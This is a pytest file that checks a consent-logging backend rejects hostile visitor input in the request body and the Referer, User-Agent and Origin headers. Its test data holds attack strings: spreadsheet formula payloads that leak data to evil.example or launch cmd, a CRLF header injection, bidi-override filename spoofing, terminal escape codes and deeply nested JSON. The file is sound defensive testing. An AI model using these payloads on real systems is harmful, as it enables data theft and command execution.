"""Attack: visitor-controlled text that crashes the server or is stored as it came.

Every field a visitor controls (the body, and the Referer, User-Agent and Origin headers) is
checked at intake: a clear 400 and nothing written, never a 500 and never a stored control
character, bidi override or a page URL that does not parse.
"""

from __future__ import annotations

import pytest

from ..helpers import VALID_BODY, assert_json_error
from .helpers import VISITOR, decide, log_methods, raw_post

BIDI_OVERRIDE = "\u202e"
BAD_PAGE_URLS = {
    "NUL": "https://docs.example.com/\x00guide/",
    "CR LF": "https://docs.example.com/guide/\r\nSet-Cookie: x=1",
    "tab": "https://docs.example.com/\tguide/",
    "bidi override": f"https://docs.example.com/{BIDI_OVERRIDE}fdp.exe",
    "bidi isolate": "https://docs.example.com/\u2066guide/",
    "C1 control": "https://docs.example.com/\x85guide/",
    "no host": "https:///guide/",
    "broken IPv6 host": "https://[::1/guide/",
    "port out of range": "https://docs.example.com:99999/guide/",
    "not http": "ftp://docs.example.com/guide/",
    "space": "https://docs.example.com/a guide/",
}


def test_a_body_nested_5000_deep_is_a_400(backend_app):
    deep = '{"choices": ' + "[" * 5000 + "]" * 5000 + "}"

    response = raw_post(backend_app.test_client(), deep)

    assert_json_error(response, 400, "too_deep")
    assert log_methods(backend_app) == []


def test_a_body_nested_a_little_too_deep_is_refused_before_validation(backend_app):
    nested = '{"choices": {"analytics": ' + "[" * 40 + "true" + "]" * 40 + "}}"

    assert_json_error(raw_post(backend_app.test_client(), nested), 400, "too_deep")


@pytest.mark.parametrize("field", ["page_url", "language", "policy_version", "method"])
def test_a_lone_surrogate_anywhere_is_a_400(backend_app, field):
    text = (
        '{"choices": {"analytics": true}, "policy_version": "v1", "method": "custom", '
        f'"{field}": "https://docs.example.com/\\ud800"' + "}"
    )

    response = raw_post(backend_app.test_client(), text)

    assert response.status_code == 400, response.get_data(as_text=True)
    assert_json_error(response, 400)
    assert log_methods(backend_app) == []


def test_a_lone_surrogate_in_a_field_name_is_a_400(backend_app):
    text = '{"choices": {"analytics": true}, "policy_version": "v1", "\\udfff": 1}'

    assert_json_error(raw_post(backend_app.test_client(), text), 400)


@pytest.mark.parametrize("case", BAD_PAGE_URLS, ids=list(BAD_PAGE_URLS))
def test_a_page_url_that_is_not_a_clean_url_is_refused(backend_app, case):
    response = decide(backend_app.test_client(), {**VALID_BODY, "page_url": BAD_PAGE_URLS[case]})

    assert_json_error(response, 400, "invalid_page_url")
    assert log_methods(backend_app) == []


@pytest.mark.parametrize(
    "referer",
    [
        '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "https://docs.example.com/\x1b[2Jcleared",
        "https://docs.example.com/\x00hidden",
        f"https://docs.example.com/{BIDI_OVERRIDE}gpj.exe",
        "https://docs.example.com/" + "a" * 3000,
    ],
)
def test_a_withdrawal_checks_the_referer_it_records_as_page_url(backend_app, referer):
    client = backend_app.test_client()
    decide(client)

    response = client.delete("/api/v1/consent", headers={"Referer": referer}, environ_base=VISITOR)

    assert_json_error(response, 400, "invalid_page_url")
    assert log_methods(backend_app) == ["custom"]
    stored = [record.page_url for record in backend_app.extensions["consent"].store.records()]
    assert referer not in stored


def test_a_withdrawal_with_a_clean_referer_records_it(backend_app):
    client = backend_app.test_client()
    decide(client)

    response = client.delete(
        "/api/v1/consent",
        headers={"Referer": "https://docs.example.com/privacy/"},
        environ_base=VISITOR,
    )

    assert response.status_code == 200
    last = list(backend_app.extensions["consent"].store.records())[-1]
    assert (last.method, last.page_url) == ("withdraw", "https://docs.example.com/privacy/")


@pytest.mark.parametrize(
    ("header", "value", "code"),
    [
        ("User-Agent", "Agent/1\x00hidden", "invalid_user_agent"),
        ("User-Agent", "Agent/1\x1b[31mred", "invalid_user_agent"),
        ("User-Agent", "Agent/1 \u202egnp.exe".encode().decode("latin-1"), "invalid_user_agent"),
        ("Origin", "=cmd|' /C calc'!A0", "invalid_origin"),
        ("Origin", "https://docs.example.com/\x7f", "invalid_origin"),
    ],
)
def test_hostile_request_headers_are_refused(backend_app, header, value, code):
    response = decide(backend_app.test_client(), **{header: value})

    assert_json_error(response, 400, code)
    assert log_methods(backend_app) == []


def test_ordinary_headers_are_still_recorded(backend_app):
    response = decide(
        backend_app.test_client(),
        **{"Origin": "https://docs.example.com", "User-Agent": "Mozilla/5.0 (X11; Linux) ü"},
    )

    assert response.status_code == 201
    record = next(backend_app.extensions["consent"].store.records())
    assert record.origin == "https://docs.example.com"
